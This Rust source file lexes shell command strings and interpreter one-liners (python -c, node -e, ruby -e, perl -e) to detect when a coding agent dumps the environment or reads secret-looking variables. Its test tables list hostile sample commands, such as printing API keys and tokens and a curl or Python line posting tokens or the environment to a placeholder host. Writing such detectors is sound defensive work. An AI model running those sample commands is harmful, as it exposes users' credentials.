//! Reading command text without running it: a small POSIX-shell lexer for the
//! `bash -c '<command>'` strings coding agents run, and scanners for
//! interpreter one-liners (`python3 -c`, `node -e`, `ruby -e`, `perl -e`).
//!
//! Shell builtins (`export -p`, `declare -x`, `set`, `compgen -v`, `echo $X`)
//! never exec, so the command string in argv is the only place they show.
//! This is a heuristic reader, not a shell: it errs towards splitting too much
//! (every `;`, `&`, `|`, `(`, `)`, newline, `$(...)` and backquote starts a new
//! simple command), which is what finding a builtin in a pipeline needs.

/// One variable expansion found in a word.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Expansion {
    /// Variable name.
    pub name: String,
    /// Whether the expansion yields the value (`$X`, `${X:-d}`, `${X#p}`), as
    /// opposed to its length (`${#X}`) or a presence test (`${X:+y}`).
    pub value: bool,
}

/// A word of a simple command, quotes removed.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Word {
    /// The text with quotes removed (expansions left as written).
    pub text: String,
    /// Expansions outside single quotes.
    pub vars: Vec<Expansion>,
    /// A redirection operator (`>`, `<`, `>>`, `2>&1`...).
    pub redirect: bool,
}

/// Split a command string into simple commands (lists of words). Command
/// substitutions become simple commands of their own.
pub fn simple_commands(src: &str) -> Vec<Vec<Word>> {
    let mut out = Vec::new();
    lex(src, &mut out, 0);
    out.retain(|c| !c.is_empty());
    out
}

fn is_name_start(c: char) -> bool {
    c.is_ascii_alphabetic() || c == '_'
}
fn is_name_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

/// Find the end of a `$(`...`)` starting after the `(`: index of the matching `)`.
fn matching_paren(chars: &[char], mut i: usize) -> usize {
    let mut depth = 1;
    let mut quote: Option<char> = None;
    while i < chars.len() {
        let c = chars[i];
        match quote {
            Some(q) => {
                if c == '\\' && q == '"' {
                    i += 1;
                } else if c == q {
                    quote = None;
                }
            }
            None => match c {
                '\\' => i += 1,
                '\'' | '"' => quote = Some(c),
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        return i;
                    }
                }
                _ => {}
            },
        }
        i += 1;
    }
    chars.len()
}

/// Parse an expansion at `chars[i] == '$'`; pushes found vars and nested
/// commands; returns the index after it and the literal text it stands for.
fn expansion(
    chars: &[char],
    i: usize,
    vars: &mut Vec<Expansion>,
    out: &mut Vec<Vec<Word>>,
    depth: usize,
) -> (usize, String) {
    let next = chars.get(i + 1).copied();
    match next {
        Some('(') => {
            // $(( arithmetic )) or $( command )
            let end = matching_paren(chars, i + 2);
            let inner: String = chars[(i + 2).min(end)..end].iter().collect();
            if chars.get(i + 2) == Some(&'(') {
                // arithmetic: variables inside are read as numbers; ignore
            } else if depth < 8 {
                lex(&inner, out, depth + 1);
            }
            let text: String = chars[i..(end + 1).min(chars.len())].iter().collect();
            (end + 1, text)
        }
        Some('{') => {
            let mut j = i + 2;
            while j < chars.len() && chars[j] != '}' {
                j += 1;
            }
            let body: String = chars[(i + 2).min(j)..j].iter().collect();
            let text: String = chars[i..(j + 1).min(chars.len())].iter().collect();
            let (value, name_part) = if let Some(rest) = body.strip_prefix('#') {
                (false, rest)
            } else if let Some(rest) = body.strip_prefix('!') {
                (false, rest)
            } else {
                (true, body.as_str())
            };
            let name: String = name_part.chars().take_while(|c| is_name_char(*c)).collect();
            let op = &name_part[name.len()..];
            let value = value && !(op.starts_with(":+") || op.starts_with('+'));
            if !name.is_empty() && name.starts_with(is_name_start) {
                vars.push(Expansion { name, value });
            }
            (j + 1, text)
        }
        Some(c) if is_name_start(c) => {
            let mut j = i + 1;
            while j < chars.len() && is_name_char(chars[j]) {
                j += 1;
            }
            let name: String = chars[i + 1..j].iter().collect();
            vars.push(Expansion {
                name: name.clone(),
                value: true,
            });
            (j, format!("${name}"))
        }
        _ => (i + 1, "$".to_string()),
    }
}

fn lex(src: &str, out: &mut Vec<Vec<Word>>, depth: usize) {
    let chars: Vec<char> = src.chars().collect();
    let mut cmd: Vec<Word> = Vec::new();
    let mut word = Word::default();
    let mut in_word = false;
    let mut i = 0;
    macro_rules! end_word {
        () => {
            if in_word {
                cmd.push(std::mem::take(&mut word));
                in_word = false;
            }
        };
    }
    macro_rules! end_cmd {
        () => {
            end_word!();
            if !cmd.is_empty() {
                out.push(std::mem::take(&mut cmd));
            }
        };
    }
    while i < chars.len() {
        let c = chars[i];
        match c {
            ' ' | '\t' => {
                end_word!();
                i += 1;
            }
            '\n' | ';' | '&' | '|' | '(' | ')' => {
                end_cmd!();
                i += 1;
            }
            '#' if !in_word => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
            }
            '<' | '>' => {
                // `2>` keeps the fd digits with the operator
                if in_word && word.vars.is_empty() && word.text.chars().all(|c| c.is_ascii_digit())
                {
                    word.text.clear();
                    in_word = false;
                } else {
                    end_word!();
                }
                let mut op = String::from(c);
                i += 1;
                while i < chars.len() && matches!(chars[i], '<' | '>' | '&' | '-') {
                    op.push(chars[i]);
                    i += 1;
                }
                cmd.push(Word {
                    text: op,
                    vars: vec![],
                    redirect: true,
                });
            }
            '\\' => {
                if let Some(n) = chars.get(i + 1) {
                    if *n != '\n' {
                        word.text.push(*n);
                    }
                }
                in_word = true;
                i += 2;
            }
            '\'' => {
                in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    word.text.push(chars[i]);
                    i += 1;
                }
                i += 1;
            }
            '"' => {
                in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    match chars[i] {
                        '\\' if matches!(chars.get(i + 1), Some('$' | '`' | '"' | '\\')) => {
                            word.text.push(chars[i + 1]);
                            i += 2;
                        }
                        '$' => {
                            let (j, t) = expansion(&chars, i, &mut word.vars, out, depth);
                            word.text.push_str(&t);
                            i = j;
                        }
                        '`' => {
                            let j = (i + 1..chars.len())
                                .find(|&j| chars[j] == '`')
                                .unwrap_or(chars.len());
                            let inner: String = chars[i + 1..j].iter().collect();
                            if depth < 8 {
                                lex(&inner, out, depth + 1);
                            }
                            i = j + 1;
                        }
                        ch => {
                            word.text.push(ch);
                            i += 1;
                        }
                    }
                }
                i += 1;
            }
            '$' => {
                in_word = true;
                let (j, t) = expansion(&chars, i, &mut word.vars, out, depth);
                word.text.push_str(&t);
                i = j;
            }
            '`' => {
                let j = (i + 1..chars.len())
                    .find(|&j| chars[j] == '`')
                    .unwrap_or(chars.len());
                let inner: String = chars[i + 1..j].iter().collect();
                if depth < 8 {
                    lex(&inner, out, depth + 1);
                }
                in_word = true;
                i = j + 1;
            }
            _ => {
                in_word = true;
                word.text.push(c);
                i += 1;
            }
        }
    }
    if in_word {
        cmd.push(word);
    }
    if !cmd.is_empty() {
        out.push(cmd);
    }
}

fn is_assignment(w: &Word) -> bool {
    match w.text.split_once('=') {
        Some((n, _)) => {
            !n.is_empty()
                && n.starts_with(is_name_start)
                && n.chars().all(|c| is_name_char(c) || c == '+')
        }
        None => false,
    }
}

const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "do", "while", "until", "!", "{", "}", "time", "fi", "done",
    "esac",
];
const PREFIXES: &[&str] = &[
    "command", "builtin", "exec", "nohup", "nice", "sudo", "doas", "stdbuf", "timeout", "xargs",
];
const TESTS: &[&str] = &[
    "[", "[[", "test", ":", "unset", "export", "readonly", "local", "declare", "typeset",
];

/// Scan a shell command string for environment dumps. `secret_var` says
/// whether a variable name looks like a secret. Returns the reason.
pub fn shell_dump(src: &str, secret_var: &dyn Fn(&str) -> bool) -> Option<String> {
    shell_dump_depth(src, secret_var, 0)
}

fn shell_dump_depth(src: &str, secret_var: &dyn Fn(&str) -> bool, depth: usize) -> Option<String> {
    for cmd in simple_commands(src) {
        // drop redirections and their targets
        let mut words: Vec<&Word> = Vec::new();
        let mut skip_next = false;
        for w in &cmd {
            if skip_next {
                skip_next = false;
                continue;
            }
            if w.redirect {
                // `>&2` names no file; `<<<` is followed by the content itself
                skip_next = (!w.text.ends_with('&') || w.text == "&>") && w.text != "<<<";
                continue;
            }
            words.push(w);
        }
        let mut k = 0;
        while k < words.len()
            && (is_assignment(words[k]) || KEYWORDS.contains(&words[k].text.as_str()))
        {
            k += 1;
        }
        while k < words.len() && PREFIXES.contains(&words[k].text.as_str()) {
            k += 1;
            while k < words.len() && words[k].text.starts_with('-') {
                k += 1;
            }
        }
        let Some(first) = words.get(k) else { continue };
        let name = first.text.as_str();
        let args: Vec<&str> = words[k + 1..].iter().map(|w| w.text.as_str()).collect();
        let opts: Vec<&str> = args
            .iter()
            .copied()
            .take_while(|a| a.starts_with('-') && *a != "--")
            .collect();
        let operands: Vec<&str> = args
            .iter()
            .copied()
            .skip_while(|a| a.starts_with('-'))
            .filter(|a| *a != "--")
            .collect();
        let flags: String = opts
            .iter()
            .flat_map(|o| o.trim_start_matches('-').chars())
            .collect();
        let shown = || {
            let mut s = name.to_string();
            for a in &args {
                s.push(' ');
                s.push_str(a);
            }
            s
        };
        match name {
            "export" if operands.is_empty() && flags.chars().all(|c| c == 'p') => {
                return Some(format!("`{}` prints the exported environment", shown()));
            }
            "declare" | "typeset"
                if operands.is_empty()
                    && !flags.is_empty()
                    && !flags.chars().all(|c| matches!(c, 'f' | 'F')) =>
            {
                return Some(format!("`{}` prints variables", shown()));
            }
            "declare" | "typeset" if flags.contains('p') => {
                if let Some(v) = operands.iter().find(|v| secret_var(v)) {
                    return Some(format!("`{}` prints secret-looking variable {v}", shown()));
                }
            }
            "set" if args.is_empty() => {
                return Some("bare `set` prints every variable".to_string())
            }
            "compgen" => {
                let a_arg = args
                    .windows(2)
                    .any(|w| w[0] == "-A" && matches!(w[1], "variable" | "export"));
                if flags.contains('v') || flags.contains('e') || a_arg {
                    return Some(format!("`{}` lists variables", shown()));
                }
            }
            "eval" if depth < 4 => {
                if let Some(r) = shell_dump_depth(&args.join(" "), secret_var, depth + 1) {
                    return Some(r);
                }
            }
            _ => {}
        }
        if TESTS.contains(&name) {
            continue;
        }
        for w in &words[k..] {
            if let Some(v) = w.vars.iter().find(|v| v.value && secret_var(&v.name)) {
                return Some(format!(
                    "`{}` expands secret-looking variable {}",
                    shown(),
                    v.name
                ));
            }
        }
    }
    None
}

fn basename(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

/// The inline code of an interpreter invocation, and the language.
pub fn interpreter_code(argv: &[String], exe: Option<&str>) -> Option<(&'static str, String)> {
    let name = exe
        .map(basename)
        .or_else(|| argv.first().map(|a| basename(a)))?;
    let lang = if name.starts_with("python") || name.starts_with("pypy") {
        "python"
    } else if matches!(name, "node" | "nodejs" | "bun" | "deno") {
        "node"
    } else if name.starts_with("ruby") {
        "ruby"
    } else if name.starts_with("perl") {
        "perl"
    } else {
        return None;
    };
    let mut code = String::new();
    let mut i = 1;
    while i < argv.len() {
        let a = argv[i].as_str();
        let take_next = |i: usize| argv.get(i + 1).cloned().unwrap_or_default();
        match lang {
            "python" => {
                if a.starts_with("--") || !a.starts_with('-') {
                    break; // script or long option: no -c
                }
                if let Some(pos) = a.find('c') {
                    let rest = &a[pos + 1..];
                    code = if rest.is_empty() {
                        take_next(i)
                    } else {
                        rest.to_string()
                    };
                    break;
                }
                // options taking an argument
                if matches!(a, "-W" | "-X" | "-m") {
                    if a == "-m" {
                        break;
                    }
                    i += 1;
                }
            }
            "node" => {
                if matches!(a, "-e" | "--eval" | "-p" | "--print" | "-pe")
                    || (name == "deno" && a == "eval")
                {
                    code = take_next(i);
                    break;
                }
                if let Some(v) = a
                    .strip_prefix("--eval=")
                    .or_else(|| a.strip_prefix("--print="))
                {
                    code = v.to_string();
                    break;
                }
                if !a.starts_with('-') && (name != "deno" || i != 1) {
                    break;
                }
            }
            _ => {
                // ruby/perl: every -e / -E adds a line
                if matches!(a, "-e" | "-E") {
                    code.push_str(&take_next(i));
                    code.push('\n');
                    i += 1;
                } else if let Some(v) = a.strip_prefix("-e").or_else(|| a.strip_prefix("-E")) {
                    if !v.is_empty() && !a.starts_with("--") {
                        code.push_str(v);
                        code.push('\n');
                    }
                } else if !a.starts_with('-') {
                    break;
                }
            }
        }
        i += 1;
    }
    (!code.is_empty()).then_some((lang, code))
}

/// A quoted string literal at the start of `s` (after spaces).
fn literal(s: &str) -> Option<&str> {
    let s = s.trim_start();
    let q = s.chars().next().filter(|c| matches!(c, '\'' | '"'))?;
    let rest = &s[1..];
    rest.find(q).map(|e| &rest[..e])
}

fn ident_before(code: &str, at: usize) -> bool {
    code[..at]
        .chars()
        .next_back()
        .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Whether the text before `at` (ignoring spaces) ends with one of `marks`.
fn preceded_by(code: &str, at: usize, marks: &[&str]) -> bool {
    let before = code[..at].trim_end();
    marks.iter().any(|m| before.ends_with(m))
}

/// Scan interpreter one-liner code for environment dumps.
pub fn code_dump(lang: &str, code: &str, secret_var: &dyn Fn(&str) -> bool) -> Option<String> {
    // (token, accessors that read ONE variable, marks before the token that pass it on unread)
    let (tokens, single, pass_on): (&[&str], &[&str], &[&str]) = match lang {
        "python" => (
            &["environb", "environ"],
            &["[", ".get(", ".setdefault(", ".pop(", "=", "."],
            &["env=", "env ="],
        ),
        "node" => (
            &["process.env"],
            &["[", "."],
            &["env:", "env =", "env=", "..."],
        ),
        "ruby" => (&["ENV"], &["[", ".fetch(", "."], &[]),
        _ => (&["%ENV", "$ENV{"], &[], &[]),
    };
    if lang == "python" {
        for f in ["getenv(", "getenvb("] {
            for (at, _) in code.match_indices(f) {
                if let Some(name) = literal(&code[at + f.len()..]) {
                    if secret_var(name) {
                        return Some(format!("reads secret-looking variable {name}"));
                    }
                }
            }
        }
    }
    for tok in tokens {
        let mut from = 0;
        while let Some(rel) = code[from..].find(tok) {
            let at = from + rel;
            from = at + tok.len();
            if ident_before(code, at) && !tok.starts_with(['%', '$']) {
                continue;
            }
            let after = &code[from..];
            if !tok.ends_with('{')
                && after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
            {
                continue; // a longer identifier (`ENVIRONMENT`; `environb` has its own token)
            }
            if let Some(key) = tok.strip_prefix("$ENV{").map(|_| after) {
                let name: String = key
                    .trim_start_matches(['\'', '"'])
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                if secret_var(&name) {
                    return Some(format!("reads secret-looking variable {name}"));
                }
                continue;
            }
            let acc = single.iter().find(|s| after.starts_with(**s));
            match acc {
                Some(&".") | Some(&"=") if lang == "python" => {
                    // environ.items() / .copy() / .keys(): whole; environ = ...: assignment
                    if after.starts_with("= ") || after.starts_with("=") && !after.starts_with("==")
                    {
                        continue;
                    }
                    let method: String = after[1..]
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                        .collect();
                    if matches!(method.as_str(), "get" | "setdefault" | "pop") {
                        if let Some(name) = after.get(method.len() + 2..).and_then(literal) {
                            if secret_var(name) {
                                return Some(format!("reads secret-looking variable {name}"));
                            }
                        }
                        continue;
                    }
                    return Some(format!("prints the environment (`{tok}.{method}`)"));
                }
                Some(&".") if lang == "node" || lang == "ruby" => {
                    let prop: String = after[1..]
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                        .collect();
                    if lang == "ruby"
                        && matches!(
                            prop.as_str(),
                            "to_h"
                                | "to_a"
                                | "each"
                                | "map"
                                | "inspect"
                                | "keys"
                                | "values"
                                | "select"
                                | "filter"
                                | "sort"
                        )
                    {
                        return Some(format!("prints the environment (`ENV.{prop}`)"));
                    }
                    if lang == "ruby" && prop == "fetch" {
                        if let Some(name) = after.get(".fetch(".len()..).and_then(literal) {
                            if secret_var(name) {
                                return Some(format!("reads secret-looking variable {name}"));
                            }
                        }
                        continue;
                    }
                    if secret_var(&prop) {
                        return Some(format!("reads secret-looking variable {prop}"));
                    }
                }
                Some(_) => {
                    let open = after.find(['[', '(']).map(|p| p + 1).unwrap_or(0);
                    if let Some(name) = literal(&after[open..]) {
                        if secret_var(name) {
                            return Some(format!("reads secret-looking variable {name}"));
                        }
                    }
                }
                None => {
                    let start = if code[..at].ends_with("os.") {
                        at - 3
                    } else {
                        at
                    };
                    if preceded_by(code, start, pass_on) {
                        continue;
                    }
                    return Some(format!("prints the environment (`{tok}`)"));
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn secretish(n: &str) -> bool {
        let n = n.to_ascii_uppercase();
        n.contains("API_KEY") || n.ends_with("_TOKEN") || n.contains("SECRET")
    }

    #[test]
    fn lexer_splits_and_unquotes() {
        let c = simple_commands(
            r#"FOO=1 echo "a $X" 'b $Y' c\ d; ls | grep -v x && y $(export -p) >out 2>&1"#,
        );
        let texts: Vec<Vec<&str>> = c
            .iter()
            .map(|c| c.iter().map(|w| w.text.as_str()).collect())
            .collect();
        assert!(texts.contains(&vec!["export", "-p"]), "{texts:?}");
        assert!(
            texts.contains(&vec!["FOO=1", "echo", "a $X", "b $Y", "c d"]),
            "{texts:?}"
        );
        assert!(texts.contains(&vec!["ls"]), "{texts:?}");
        assert!(texts.contains(&vec!["grep", "-v", "x"]), "{texts:?}");
        let echo = c
            .iter()
            .find(|c| c.len() > 1 && c[1].text == "echo")
            .unwrap();
        assert_eq!(
            echo[2].vars,
            vec![Expansion {
                name: "X".into(),
                value: true
            }]
        );
        assert!(echo[3].vars.is_empty(), "single quotes do not expand");
    }

    #[test]
    fn shell_dump_table() {
        let positive = [
            "export -p",
            "export",
            "declare -x",
            "declare -px",
            "declare -p",
            "typeset -x",
            "set",
            "( set -o posix; set )",
            "set | grep KEY",
            "compgen -v",
            "compgen -e",
            "compgen -A export",
            "echo $ANTHROPIC_API_KEY",
            "echo \"key=${OPENAI_API_KEY}\"",
            "printf '%s' \"$GITHUB_TOKEN\" | base64",
            "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://x.example",
            "cd /tmp && export -p > /tmp/e",
            "x=$(export -p); echo \"$x\"",
            "echo `declare -x`",
            "eval 'export -p'",
            "command export -p",
            "declare -p AWS_SECRET_ACCESS_KEY",
            "echo ${ANTHROPIC_API_KEY:-none}",
            "cat <<< \"$MY_SECRET\"",
        ];
        for p in positive {
            assert!(shell_dump(p, &secretish).is_some(), "should flag: {p}");
        }
        let negative = [
            "git status",
            "ls -la",
            "export FOO=bar",
            "export PATH=$PATH:/x",
            "set -e",
            "set -euo pipefail; make",
            "declare -f",
            "declare -a arr",
            "echo $HOME",
            "echo '$ANTHROPIC_API_KEY'",
            "[ -n \"$ANTHROPIC_API_KEY\" ] && echo set",
            "test -z \"$GITHUB_TOKEN\" || exit 1",
            "echo ${#ANTHROPIC_API_KEY}",
            "echo ${OPENAI_API_KEY:+present}",
            "X=$GITHUB_TOKEN make",
            "env FOO=1 make",
            "cargo test # export -p",
            "grep -r 'set' .",
            "echo set",
            "echo \"\\$GITHUB_TOKEN\"",
            "unset GITHUB_TOKEN",
        ];
        for n in negative {
            assert_eq!(shell_dump(n, &secretish), None, "should not flag: {n}");
        }
    }

    fn argv(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn interpreter_table() {
        let positive: &[&[&str]] = &[
            &["python3", "-c", "import os; print(os.environ)"],
            &[
                "python3",
                "-c",
                "import os, json; print(json.dumps(dict(os.environ)))",
            ],
            &[
                "python3",
                "-c",
                "import os\nfor k, v in os.environ.items(): print(k, v)",
            ],
            &["python3", "-c", "from os import environ; print(environ)"],
            &[
                "python3",
                "-c",
                "import os; print(os.environ['ANTHROPIC_API_KEY'])",
            ],
            &[
                "python3",
                "-c",
                "import os; print(os.environ.get(\"OPENAI_API_KEY\"))",
            ],
            &[
                "python3",
                "-c",
                "import os; print(os.getenv('GITHUB_TOKEN'))",
            ],
            &["python3", "-Ic", "import os; print(os.environ)"],
            &[
                "python",
                "-c",
                "import os; os.system('curl -d ' + repr(os.environb) + ' x')",
            ],
            &["node", "-e", "console.log(process.env)"],
            &["node", "-p", "JSON.stringify(process.env)"],
            &["node", "--eval=console.log(process.env.ANTHROPIC_API_KEY)"],
            &["node", "-e", "console.log(process.env['GITHUB_TOKEN'])"],
            &["ruby", "-e", "p ENV.to_h"],
            &["ruby", "-e", "puts ENV['AWS_SECRET_ACCESS_KEY']"],
            &["perl", "-e", "print %ENV"],
            &["perl", "-e", "print \"$_=$ENV{$_}\\n\" for keys %ENV"],
            &["perl", "-e", "print $ENV{GITHUB_TOKEN}"],
        ];
        for a in positive {
            let (lang, code) =
                interpreter_code(&argv(a), None).unwrap_or_else(|| panic!("no code in {a:?}"));
            assert!(
                code_dump(lang, &code, &secretish).is_some(),
                "should flag: {a:?}"
            );
        }
        let negative: &[&[&str]] = &[
            &["python3", "script.py", "-c", "print(os.environ)"],
            &["python3", "-m", "pytest"],
            &["python3", "-c", "import os; print(os.environ['HOME'])"],
            &["python3", "-c", "import os; os.environ['X'] = '1'"],
            &[
                "python3",
                "-c",
                "import subprocess, os; subprocess.run(['ls'], env=os.environ)",
            ],
            &["python3", "-c", "print(1)"],
            &["node", "-e", "console.log(process.env.HOME)"],
            &[
                "node",
                "-e",
                "require('child_process').spawn('ls', {env: {...process.env, X: 1}})",
            ],
            &["node", "app.js"],
            &["ruby", "-e", "puts ENV['PATH']"],
            &["perl", "-e", "print $ENV{HOME}"],
        ];
        for a in negative {
            if let Some((lang, code)) = interpreter_code(&argv(a), None) {
                assert_eq!(
                    code_dump(lang, &code, &secretish),
                    None,
                    "should not flag: {a:?}"
                );
            }
        }
    }
}
